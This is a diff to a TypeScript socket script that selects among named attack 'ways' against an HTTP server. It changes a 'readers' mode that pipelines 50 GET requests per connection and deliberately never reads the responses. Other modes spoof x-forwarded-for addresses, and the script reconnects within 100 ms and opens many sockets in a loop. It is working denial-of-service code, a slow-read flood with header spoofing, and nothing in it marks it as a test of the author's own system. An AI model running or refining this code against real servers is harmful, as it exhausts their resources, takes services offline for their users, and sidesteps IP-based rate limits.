@@ -24,7 +24,7 @@ const ways: Record<string, (socket: Socket) => void> = {
     socket.write(begun(`x-forwarded-for: 198.${high}.${low}.7\r\n`));
   },
   // Many answers, of which nothing is read.
-  readers: (socket) => socket.pause().write(head("GET /", "\r\n").repeat(50)),
+  readers: (socket) => socket.write(head("GET /", "\r\n").repeat(50)),
 };
 const attack = ways[way];
 if (!attack) {
@@ -45,9 +45,8 @@ function begin() {
   });
   socket.on("error", () => {});
   socket.on("close", () => setTimeout(begin, 100));
-  socket.resume();
-  if (way === "readers") {
-    socket.pause();
+  if (way !== "readers") {
+    socket.resume();
   }
 }
 for (let number = 0; number < Number(count); number++) {
